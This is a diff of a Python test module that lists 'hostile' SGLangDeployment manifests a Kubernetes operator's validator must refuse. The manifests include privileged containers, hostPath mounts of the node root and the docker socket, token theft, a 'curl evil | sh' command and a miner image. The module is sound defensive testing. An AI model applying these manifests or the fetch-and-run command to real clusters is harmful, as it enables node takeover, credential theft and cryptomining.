@@ -15,83 +15,29 @@ line; they never reach an API server as such (kubectl cannot send them either).
 
 from __future__ import annotations
 
-import copy
 from dataclasses import dataclass
-from typing import Any, Literal
 
-import yaml
+from .cases_http import CASES as HTTP_CASES
+from .cases_kubelet import CASES as KUBELET_CASES
+from .cases_pod import CASES as POD_CASES
+from .model import (
+    API_VERSION,
+    KIND,
+    NAME,
+    POLICY,
+    SCHEMA,
+    UNKNOWN,
+    Hostile,
+    Refusal,
+    cr,
+    main_container,
+    pod_template,
+    sidecar,
+)
 
-SCHEMA = "schema"
-UNKNOWN = "unknown-field"
-POLICY = "policy"
-Refusal = Literal["schema", "unknown-field", "policy"]
-
-API_VERSION = "sglang.ai/v1alpha1"
-KIND = "SGLangDeployment"
-NAME = "hostile"
-
-
-@dataclass(frozen=True)
-class Hostile:
-    id: str
-    doc: dict[str, Any]
-    field: str
-    """The field validate names (pydantic's list indexes written `[0]`, as the API server writes them)."""
-    fragment: str
-    """A fragment of validate's message for that field."""
-    refused_by: Refusal
-    why: str
-    """What a tenant gets if it were accepted (issue 16's item where there is one)."""
-    allowed_host_paths: tuple[str, ...] = ()
-    """The operator's setting the case is checked under (validate --allow-host-path); none by default."""
-    admission: str | None = None
-    """Where the API server refuses the request before validating fields (no JSON, a namespace other than the
-    request's, a name of the wrong type), a fragment of what it says instead of the field."""
-
-    @property
-    def text(self) -> str:
-        return yaml.dump(self.doc, Dumper=_PlainDumper, sort_keys=False, width=10_000)
-
-
-class _PlainDumper(yaml.SafeDumper):
-    """Writes a repeated value out again instead of as an anchor and an alias (which the CLI refuses)."""
-
-    def ignore_aliases(self, data: Any) -> bool:
-        return True
-
-
-def _merge(base: dict[str, Any], patch: dict[str, Any]) -> dict[str, Any]:
-    merged = copy.deepcopy(base)
-    for key, value in patch.items():
-        if isinstance(value, dict) and isinstance(merged.get(key), dict):
-            merged[key] = _merge(merged[key], value)
-        else:
-            merged[key] = copy.deepcopy(value)
-    return merged
-
-
-def cr(spec: dict[str, Any] | None = None, *, metadata: Any = None, whole_spec: Any = None) -> dict[str, Any]:
-    """An SGLangDeployment named `hostile` whose spec is `{model: {path: m}}` merged with `spec` (or `whole_spec`
-    as given)."""
-    return {
-        "apiVersion": API_VERSION,
-        "kind": KIND,
-        "metadata": {"name": NAME} if metadata is None else metadata,
-        "spec": whole_spec if whole_spec is not None else _merge({"model": {"path": "m"}}, spec or {}),
-    }
-
-
-def _template(pod_spec: dict[str, Any]) -> dict[str, Any]:
-    return {"template": {"spec": pod_spec}}
-
-
-def _sidecar(**fields: Any) -> dict[str, Any]:
-    return _template({"containers": [{"name": "helper", "image": "busybox:1.36", **fields}]})
-
-
-def _main(**fields: Any) -> dict[str, Any]:
-    return _template({"containers": [{"name": "sglang", **fields}]})
-
+__all__ = [
+    "API_VERSION", "CASES", "KIND", "MALFORMED", "POLICY", "SCHEMA", "UNKNOWN", "Hostile", "Malformed", "Refusal",
+]  # fmt: skip
 
 _INT_TYPE = "must be of type integer"
 _AT_MOST = "at most"
@@ -106,82 +52,82 @@ _TEMPLATE_MOUNTS = "every volumeMount must name a volume of template.spec.volume
 # fmt: off
 CASES: list[Hostile] = [
     # --- privilege escalation through the pod template (issue 16, High 1) ---
-    Hostile("privileged-main-container", cr(_main(securityContext={"privileged": True, "runAsUser": 0})),
+    Hostile("privileged-main-container", cr(main_container(securityContext={"privileged": True, "runAsUser": 0})),
             "spec.template.spec.containers[0].securityContext", _UNKNOWN, UNKNOWN, "root with every device"),
-    Hostile("privileged-sidecar", cr(_sidecar(securityContext={"privileged": True})),
+    Hostile("privileged-sidecar", cr(sidecar(securityContext={"privileged": True})),
             "spec.template.spec.containers[0].securityContext", _UNKNOWN, UNKNOWN, "a privileged sidecar"),
-    Hostile("sidecar-capabilities", cr(_sidecar(securityContext={"capabilities": {"add": ["SYS_ADMIN"]}})),
+    Hostile("sidecar-capabilities", cr(sidecar(securityContext={"capabilities": {"add": ["SYS_ADMIN"]}})),
             "spec.template.spec.containers[0].securityContext", _UNKNOWN, UNKNOWN, "CAP_SYS_ADMIN"),
-    Hostile("sidecar-privilege-escalation", cr(_sidecar(securityContext={"allowPrivilegeEscalation": True})),
+    Hostile("sidecar-privilege-escalation", cr(sidecar(securityContext={"allowPrivilegeEscalation": True})),
             "spec.template.spec.containers[0].securityContext", _UNKNOWN, UNKNOWN, "setuid binaries"),
-    Hostile("pod-security-context-root", cr(_template({"securityContext": {"runAsUser": 0, "sysctls": []}})),
+    Hostile("pod-security-context-root", cr(pod_template({"securityContext": {"runAsUser": 0, "sysctls": []}})),
             "spec.template.spec.securityContext", _UNKNOWN, UNKNOWN, "pod-level identity and sysctls"),
-    Hostile("host-network", cr(_template({"hostNetwork": True})),
+    Hostile("host-network", cr(pod_template({"hostNetwork": True})),
             "spec.template.spec.hostNetwork", _UNKNOWN, UNKNOWN, "the node's network namespace"),
-    Hostile("host-pid", cr(_template({"hostPID": True})),
+    Hostile("host-pid", cr(pod_template({"hostPID": True})),
             "spec.template.spec.hostPID", _UNKNOWN, UNKNOWN, "every process of the node"),
-    Hostile("host-ipc", cr(_template({"hostIPC": True})),
+    Hostile("host-ipc", cr(pod_template({"hostIPC": True})),
             "spec.template.spec.hostIPC", _UNKNOWN, UNKNOWN, "the node's IPC namespace"),
-    Hostile("host-path-volume-root", cr(_template({"volumes": [{"name": "root", "hostPath": {"path": "/"}}]})),
+    Hostile("host-path-volume-root", cr(pod_template({"volumes": [{"name": "root", "hostPath": {"path": "/"}}]})),
             "spec.template.spec.volumes[0].hostPath", _UNKNOWN, UNKNOWN, "the node's root filesystem"),
     Hostile("host-path-docker-socket",
-            cr(_template({"volumes": [{"name": "dock", "hostPath": {"path": "/var/run/docker.sock"}}]})),
+            cr(pod_template({"volumes": [{"name": "dock", "hostPath": {"path": "/var/run/docker.sock"}}]})),
             "spec.template.spec.volumes[0].hostPath", _UNKNOWN, UNKNOWN, "the container runtime"),
-    Hostile("service-account-name", cr(_template({"serviceAccountName": "namespace-admin"})),
+    Hostile("service-account-name", cr(pod_template({"serviceAccountName": "namespace-admin"})),
             "spec.template.spec.serviceAccountName", _UNKNOWN, UNKNOWN, "another service account's token"),
-    Hostile("service-account-deprecated", cr(_template({"serviceAccount": "namespace-admin"})),
+    Hostile("service-account-deprecated", cr(pod_template({"serviceAccount": "namespace-admin"})),
             "spec.template.spec.serviceAccount", _UNKNOWN, UNKNOWN, "the deprecated spelling of the same"),
-    Hostile("automount-token", cr(_template({"automountServiceAccountToken": True})),
+    Hostile("automount-token", cr(pod_template({"automountServiceAccountToken": True})),
             "spec.template.spec.automountServiceAccountToken", _UNKNOWN, UNKNOWN, "the default account's token"),
-    Hostile("node-name", cr(_template({"nodeName": "control-plane"})),
+    Hostile("node-name", cr(pod_template({"nodeName": "control-plane"})),
             "spec.template.spec.nodeName", _UNKNOWN, UNKNOWN, "bypass the scheduler (and taints)"),
-    Hostile("share-process-namespace", cr(_template({"shareProcessNamespace": True})),
+    Hostile("share-process-namespace", cr(pod_template({"shareProcessNamespace": True})),
             "spec.template.spec.shareProcessNamespace", _UNKNOWN, UNKNOWN, "read the engine's memory"),
-    Hostile("ephemeral-containers", cr(_template({"ephemeralContainers": [{"name": "x", "image": "busybox"}]})),
+    Hostile("ephemeral-containers", cr(pod_template({"ephemeralContainers": [{"name": "x", "image": "busybox"}]})),
             "spec.template.spec.ephemeralContainers", _UNKNOWN, UNKNOWN, "debug containers"),
-    Hostile("main-container-command", cr(_main(command=["sh", "-c", "curl evil | sh"])),
+    Hostile("main-container-command", cr(main_container(command=["sh", "-c", "curl evil | sh"])),
             "spec.template.spec.containers", "the 'sglang' entry may only add", SCHEMA,
             "a command of the tenant's choice with the engine's GPUs"),
-    Hostile("main-container-image", cr(_main(image="evil/miner:latest")),
+    Hostile("main-container-image", cr(main_container(image="evil/miner:latest")),
             "spec.template.spec.containers", "the 'sglang' entry may only add", SCHEMA, "another image on the GPUs"),
-    Hostile("main-container-args", cr(_main(args=["--api-key", "x"])),
+    Hostile("main-container-args", cr(main_container(args=["--api-key", "x"])),
             "spec.template.spec.containers", "the 'sglang' entry may only add", SCHEMA, "flags around engine.args"),
-    Hostile("sidecar-host-port", cr(_sidecar(ports=[{"containerPort": 80, "hostPort": 80}])),
+    Hostile("sidecar-host-port", cr(sidecar(ports=[{"containerPort": 80, "hostPort": 80}])),
             "spec.template.spec.containers[0].ports[0].hostPort", _UNKNOWN, UNKNOWN, "a listener on the node"),
-    Hostile("sidecar-without-image", cr(_template({"containers": [{"name": "helper"}]})),
+    Hostile("sidecar-without-image", cr(pod_template({"containers": [{"name": "helper"}]})),
             "spec.template.spec.containers", "needs an image", SCHEMA, "a pod that can never start"),
     Hostile("sidecar-takes-gpus",
-            cr(_sidecar(resources={"limits": {"nvidia.com/gpu": "8"}})),
+            cr(sidecar(resources={"limits": {"nvidia.com/gpu": "8"}})),
             "spec.template.spec.containers", "must not request the GPU resource", SCHEMA,
             "GPUs outside the budget"),
     Hostile("init-container-privileged",
-            cr(_template({"initContainers": [
+            cr(pod_template({"initContainers": [
                 {"name": "i", "image": "busybox", "securityContext": {"privileged": True}}]})),
             "spec.template.spec.initContainers[0].securityContext", _UNKNOWN, UNKNOWN, "a privileged init step"),
     Hostile("projected-token-volume",
-            cr(_template({"volumes": [{"name": "tok", "projected": {"sources": [
+            cr(pod_template({"volumes": [{"name": "tok", "projected": {"sources": [
                 {"serviceAccountToken": {"path": "t", "audience": "vault"}}]}}]})),
             "spec.template.spec.volumes[0].projected.sources[0].serviceAccountToken", _UNKNOWN, UNKNOWN,
             "a token for the namespace's account"),
     Hostile("ephemeral-volume-pvc",
-            cr(_template({"volumes": [{"name": "eph", "ephemeral": {"volumeClaimTemplate": {"spec": {}}}}]})),
+            cr(pod_template({"volumes": [{"name": "eph", "ephemeral": {"volumeClaimTemplate": {"spec": {}}}}]})),
             "spec.template.spec.volumes[0].ephemeral", _UNKNOWN, UNKNOWN, "a PVC the tenant may not create"),
-    Hostile("nfs-volume", cr(_template({"volumes": [{"name": "n", "nfs": {"server": "10.0.0.1", "path": "/"}}]})),
+    Hostile("nfs-volume", cr(pod_template({"volumes": [{"name": "n", "nfs": {"server": "10.0.0.1", "path": "/"}}]})),
             "spec.template.spec.volumes[0].nfs", _UNKNOWN, UNKNOWN, "a network mount from the node"),
-    Hostile("volume-shadows-dshm", cr(_template({"volumes": [{"name": "dshm", "emptyDir": {}}]})),
+    Hostile("volume-shadows-dshm", cr(pod_template({"volumes": [{"name": "dshm", "emptyDir": {}}]})),
             "spec.template.spec.volumes", "are the operator's", SCHEMA, "replace the operator's own volume"),
     Hostile("volume-two-sources",
-            cr(_template({"volumes": [{"name": "v", "emptyDir": {}, "secret": {"secretName": "s"}}]})),
+            cr(pod_template({"volumes": [{"name": "v", "emptyDir": {}, "secret": {"secretName": "s"}}]})),
             "spec.template.spec.volumes", "exactly one source", SCHEMA, "an ambiguous volume"),
     Hostile("sidecar-writes-host-cache",
             cr({"model": {"cache": {"type": "hostPath", "hostPath": "/models/hf"}},
-                **_sidecar(volumeMounts=[{"name": "model-cache", "mountPath": "/rw", "readOnly": False}])}),
+                **sidecar(volumeMounts=[{"name": "model-cache", "mountPath": "/rw", "readOnly": False}])}),
             "spec.template.spec.containers", _TEMPLATE_MOUNTS, SCHEMA,
             "the node directory the admin allowed read-only, writable in a sidecar: other fleets' weights poisoned",
             allowed_host_paths=("/models",)),
     Hostile("main-mounts-host-cache-again",
             cr({"model": {"cache": {"type": "hostPath", "hostPath": "/models/hf"}},
-                **_main(volumeMounts=[{"name": "model-cache", "mountPath": "/w"}])}),
+                **main_container(volumeMounts=[{"name": "model-cache", "mountPath": "/w"}])}),
             "spec.template.spec.containers", _TEMPLATE_MOUNTS, SCHEMA,
             "the same node directory mounted a second time, writable", allowed_host_paths=("/models",)),
     Hostile("apparmor-unconfined-annotation",
@@ -189,21 +135,21 @@ CASES: list[Hostile] = [
                 "container.apparmor.security.beta.kubernetes.io/sglang": "unconfined"}}}}),
             "spec.template.metadata", "nor loosen the pod's confinement", SCHEMA,
             "AppArmor off for the engine (the annotation is still honoured; Pod Security baseline forbids it)"),
-    Hostile("affinity-garbage", cr(_template({"affinity": {"nodeAffinity": "everywhere"}})),
+    Hostile("affinity-garbage", cr(pod_template({"affinity": {"nodeAffinity": "everywhere"}})),
             "spec.template.spec.affinity.nodeAffinity", "must be of type object", SCHEMA,
             "a pod the API server refuses, every pass"),
-    Hostile("spread-garbage", cr(_template({"topologySpreadConstraints": [{"maxSkew": "lots"}]})),
+    Hostile("spread-garbage", cr(pod_template({"topologySpreadConstraints": [{"maxSkew": "lots"}]})),
             "spec.template.spec.topologySpreadConstraints[0].maxSkew", "must be of type integer", SCHEMA,
             "a pod the API server refuses, every pass"),
     Hostile("config-map-volume-garbage",
-            cr(_template({"volumes": [{"name": "v", "configMap": {"name": "c", "items": "all"}}]})),
+            cr(pod_template({"volumes": [{"name": "v", "configMap": {"name": "c", "items": "all"}}]})),
             "spec.template.spec.volumes[0].configMap.items", "must be of type array", SCHEMA,
             "a pod the API server refuses, every pass"),
     Hostile("duplicate-sidecar-names",
-            cr(_template({"containers": [{"name": "helper", "image": "a"}, {"name": "helper", "image": "b"}]})),
+            cr(pod_template({"containers": [{"name": "helper", "image": "a"}, {"name": "helper", "image": "b"}]})),
             "spec.template.spec.containers", "container names must be unique", SCHEMA,
             "a pod the API server refuses, every pass"),
-    Hostile("mount-of-missing-volume", cr(_sidecar(volumeMounts=[{"name": "nowhere", "mountPath": "/x"}])),
+    Hostile("mount-of-missing-volume", cr(sidecar(volumeMounts=[{"name": "nowhere", "mountPath": "/x"}])),
             "spec.template.spec.containers", _TEMPLATE_MOUNTS, SCHEMA, "a pod the API server refuses, every pass"),
     # --- model cache on the node (issue 16, High 1) ---
     Hostile("cache-host-path-root", cr({"model": {"cache": {"type": "hostPath", "hostPath": "/"}}}),
@@ -378,7 +324,7 @@ CASES: list[Hostile] = [
             _OWNED_ENV, SCHEMA, "weights written outside the cache"),
     Hostile("env-hf-token-plain", cr({"engine": {"env": [{"name": "HF_TOKEN", "value": "hf_secret"}]}}),
             "spec.engine.env", _OWNED_ENV, SCHEMA, "a plaintext token in the CR"),
-    Hostile("env-via-main-container", cr(_main(env=[{"name": "POD_NAME", "value": "other-pod"}])),
+    Hostile("env-via-main-container", cr(main_container(env=[{"name": "POD_NAME", "value": "other-pod"}])),
             "spec.engine.env", _OWNED_ENV, SCHEMA, "the same through the template"),
     Hostile("env-bad-name", cr({"engine": {"env": [{"name": "A=B C", "value": "x"}]}}), "spec.engine.env[0].name",
             "should match", SCHEMA, "an env name the kubelet refuses"),
@@ -441,23 +387,23 @@ CASES: list[Hostile] = [
             "spec.autoscaling.slo.quietMissRatio", "below 1", SCHEMA, "a share above 100 %"),
     Hostile("engine-version-unknown", cr({"engine": {"version": "99.0.0"}}), "spec.engine.version",
             "is not a supported SGLang release", SCHEMA, "flags rendered for a release nobody checked"),
-    Hostile("tolerations-1000", cr(_template({"tolerations": [{"key": f"k{i}", "operator": "Exists"}
+    Hostile("tolerations-1000", cr(pod_template({"tolerations": [{"key": f"k{i}", "operator": "Exists"}
                                                               for i in range(1000)]})),
             "spec.template.spec.tolerations", "must have at most", SCHEMA, "a pod spec over etcd's limit"),
-    Hostile("node-selector-value-long", cr(_template({"nodeSelector": {"pool": "x" * 100}})),
+    Hostile("node-selector-value-long", cr(pod_template({"nodeSelector": {"pool": "x" * 100}})),
             "spec.template.spec.nodeSelector.pool", "may not be more than 63 characters", SCHEMA,
             "a pod the API server refuses, every pass"),
-    Hostile("sidecars-20", cr(_template({"containers": [{"name": f"s{i}", "image": "busybox"} for i in range(20)]})),
+    Hostile("sidecars-20", cr(pod_template({"containers": [{"name": f"s{i}", "image": "busybox"} for i in range(20)]})),
             "spec.template.spec.containers", "must have at most 8 items", SCHEMA, "twenty sidecars per pod"),
-    Hostile("sidecar-command-1000", cr(_sidecar(command=["x"] * 1000)),
+    Hostile("sidecar-command-1000", cr(sidecar(command=["x"] * 1000)),
             "spec.template.spec.containers[0].command", "must have at most 64 items", SCHEMA,
             "an unbounded argv"),
-    Hostile("sidecar-env-value-100k", cr(_sidecar(env=[{"name": "A", "value": "x" * 100_000}])),
+    Hostile("sidecar-env-value-100k", cr(sidecar(env=[{"name": "A", "value": "x" * 100_000}])),
             "spec.template.spec.containers[0].env[0].value", "may not be more than 32768 characters", SCHEMA,
             "100 kB per variable"),
-    Hostile("sidecar-working-dir-relative", cr(_sidecar(workingDir="tmp")),
+    Hostile("sidecar-working-dir-relative", cr(sidecar(workingDir="tmp")),
             "spec.template.spec.containers[0].workingDir", "should match", SCHEMA, "a pod the API server refuses"),
-    Hostile("sidecar-port-zero", cr(_sidecar(ports=[{"containerPort": 0}])),
+    Hostile("sidecar-port-zero", cr(sidecar(ports=[{"containerPort": 0}])),
             "spec.template.spec.containers[0].ports[0].containerPort", "greater than or equal to 1", SCHEMA,
             "a pod the API server refuses"),
     Hostile("cache-mount-relative", cr({"model": {"cache": {"mountPath": "cache"}}}), "spec.model.cache.mountPath",
@@ -465,18 +411,19 @@ CASES: list[Hostile] = [
     Hostile("cache-claim-invalid",
             cr({"model": {"cache": {"type": "persistentVolumeClaim", "claimName": "Other_PVC"}}}),
             "spec.model.cache.claimName", "should match", SCHEMA, "no valid PVC name"),
-    Hostile("image-pull-secret-invalid", cr(_template({"imagePullSecrets": [{"name": "A B"}]})),
+    Hostile("image-pull-secret-invalid", cr(pod_template({"imagePullSecrets": [{"name": "A B"}]})),
             "spec.template.spec.imagePullSecrets[0].name", "should match", SCHEMA, "no valid Secret name"),
-    Hostile("priority-class-invalid", cr(_template({"priorityClassName": "Sys Critical"})),
+    Hostile("priority-class-invalid", cr(pod_template({"priorityClassName": "Sys Critical"})),
             "spec.template.spec.priorityClassName", "should match", SCHEMA, "no valid class name"),
     Hostile("toleration-seconds-huge",
-            cr(_template({"tolerations": [{"operator": "Exists", "effect": "NoExecute", "tolerationSeconds": 2**62}]})),
+            cr(pod_template({"tolerations": [{"operator": "Exists", "effect": "NoExecute",
+                                               "tolerationSeconds": 2**62}]})),
             "spec.template.spec.tolerations[0].tolerationSeconds", "less than or equal to 31536000", SCHEMA,
             "a pod that outlives its node's eviction for ever"),
-    Hostile("volume-name-invalid", cr(_template({"volumes": [{"name": "Bad_Name", "emptyDir": {}}]})),
+    Hostile("volume-name-invalid", cr(pod_template({"volumes": [{"name": "Bad_Name", "emptyDir": {}}]})),
             "spec.template.spec.volumes[0].name", "should match", SCHEMA, "a pod the API server refuses"),
     Hostile("secret-volume-mode-huge",
-            cr(_template({"volumes": [{"name": "s", "secret": {"secretName": "s", "defaultMode": 4095}}]})),
+            cr(pod_template({"volumes": [{"name": "s", "secret": {"secretName": "s", "defaultMode": 4095}}]})),
             "spec.template.spec.volumes[0].secret.defaultMode", "less than or equal to 511", SCHEMA,
             "setuid bits on mounted files"),
     # --- typos and unknown fields: refused by validate with a did-you-mean ---
@@ -490,6 +437,9 @@ CASES: list[Hostile] = [
             "spec.engine.env[0].valeu", "did you mean value?", UNKNOWN, "an empty variable, silently"),
 ]
 # fmt: on
+
+CASES += [*HTTP_CASES, *KUBELET_CASES, *POD_CASES]
+"""Round two (issue 29): each class in a module of its own."""
 
 
 @dataclass(frozen=True)
